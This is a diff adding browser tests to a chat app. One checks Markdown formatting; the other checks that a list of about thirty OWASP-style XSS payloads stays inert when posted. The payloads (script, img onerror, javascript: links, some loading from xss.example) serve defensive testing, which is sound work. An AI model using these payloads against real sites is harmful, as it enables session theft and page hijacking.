@@ -971,3 +971,115 @@ async def test_the_page_meets_wcag_aa_as_axe_checks_it(page_server: Served, brow
             assert await violations(user) == [], "the people sheet"
         await context.close()
         users.remove(user)
+
+
+async def test_messages_are_formatted_with_the_documented_markdown(
+        page_server: Served, browser: Browser, users: list[User]) -> None:
+    """Bold, italics, strikethrough, code, code blocks, quotes, lists and links
+    (http, https, mailto; opened apart from the page) are rendered; headings,
+    images and HTML stay text; the text is stored and searched as typed."""
+    ann = await open_user(users, browser, page_server.url, name="ann", room="fmt")
+    await ann.in_room("fmt")
+    bob = await open_user(users, browser, page_server.url, name="bob", room="fmt")
+    await bob.in_room("fmt")
+    said = ["**bold** *it* ~~gone~~ `a < b`", "```\nfor x in y:\n    pass\n```",
+            "> quoted\n\n- one\n- two", "[site](https://example.org) and https://example.com/x",
+            "mail [me](mailto:ann@example.org)",
+            "# not a heading\n![img](https://example.org/i.png)",
+            "first line\nsecond line"]
+    for text in said:
+        await ann.say(text)
+    await expect(bob.messages()).to_have_count(len(said), timeout=WAIT_MS)
+    await expect(bob.page.locator("#messages .empty")).to_have_count(0)  # (it was, on joining)
+    texts = bob.page.locator("#messages li[data-seq] .text")
+    first = texts.nth(0)
+    await expect(first.locator("strong")).to_have_text("bold")
+    await expect(first.locator("em")).to_have_text("it")
+    await expect(first.locator("s")).to_have_text("gone")
+    await expect(first.locator("code")).to_have_text("a < b")
+    await expect(texts.nth(1).locator("pre code")).to_have_text("for x in y:\n    pass\n")
+    await expect(texts.nth(2).locator("blockquote")).to_have_text("quoted")
+    await expect(texts.nth(2).locator("ul li")).to_have_text(["one", "two"])
+    links = texts.nth(3).locator("a")
+    await expect(links).to_have_count(2)
+    for i, href in enumerate(["https://example.org", "https://example.com/x"]):
+        await expect(links.nth(i)).to_have_attribute("href", href)
+        await expect(links.nth(i)).to_have_attribute("target", "_blank")
+        await expect(links.nth(i)).to_have_attribute("rel", re.compile("noopener noreferrer"))
+    await expect(texts.nth(4).locator("a")).to_have_attribute("href", "mailto:ann@example.org")
+    literal = texts.nth(5)
+    assert await literal.locator("h1, img").count() == 0
+    await expect(literal).to_contain_text("# not a heading")
+    await expect(texts.nth(6).locator("br")).to_have_count(1)
+    await bob.page.get_by_label("Search your rooms").fill("heading")
+    await bob.page.get_by_label("Search your rooms").press("Enter")
+    await expect(bob.page.locator("#search-results .said")).to_have_text(
+        ["# not a heading ![img](https://example.org/i.png)"], timeout=WAIT_MS)
+    await bob.screenshot("formatted")
+
+
+# What every browser-facing chat must keep inert: the OWASP XSS filter evasion
+# cheat sheet's cases that fit a message, and Markdown's own (links and images
+# to script URLs, obfuscated schemes, attributes smuggled in titles).
+XSS_PAYLOADS = [
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
+    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<svg/onload=alert('XSS')>",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
+    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
+    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](  javascript:alert(1))",
+    "[click](java\tscript:alert(1))",
+    "[click](vbscript:msgbox(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "[x](https://example.org \"onmouseover=alert(1)\")",
+    "[x](https://example.org\"onmouseover=\"alert(1))",
+    "`<img src=x onerror=alert(1)>`",
+    "```html\n<script>alert(1)</script>\n```",
+    "**<img src=x onerror=alert(1)>**",
+]
+
+
+async def test_every_xss_payload_stays_inert(page_server: Served, browser: Browser,
+                                             users: list[User]) -> None:
+    mallory = await open_user(users, browser, page_server.url, name="mallory", room="owasp")
+    await mallory.in_room("owasp")
+    victim = await open_user(users, browser, page_server.url, name="victim", room="owasp")
+    await victim.in_room("owasp")
+    for payload in XSS_PAYLOADS:
+        await mallory.say(payload)
+    await expect(victim.messages()).to_have_count(len(XSS_PAYLOADS), timeout=WAIT_MS)
+    for user in (victim, mallory):
+        messages = user.page.locator("#messages")
+        tags: list[str] = await user.page.evaluate("""() => [...new Set([...document
+            .querySelectorAll('#messages .text *')].map((e) => e.localName))].sort()""")
+        assert set(tags) <= {"p", "br", "strong", "em", "s", "code", "pre", "a", "blockquote",
+                             "ul", "ol", "li"}, tags
+        assert await messages.locator("script, img, svg, iframe, style, object").count() == 0
+        handlers: int = await user.page.evaluate("""() => [...document.querySelectorAll(
+            '#messages *')].filter((e) => [...e.attributes].some(
+            (a) => a.name.startsWith('on') || a.name === 'style')).length""")
+        assert handlers == 0
+        hrefs: list[str] = await messages.locator("a").evaluate_all(
+            "(links) => links.map((a) => a.getAttribute('href'))")
+        assert all(re.match(r"(https?|mailto):", h or "") for h in hrefs), hrefs
+        for link in await messages.locator("a").all():  # a click opens nothing dangerous
+            await expect(link).to_have_attribute("rel", re.compile("noopener"))
+    # (each user's page also reports no dialog, console error or page error: the fixture)
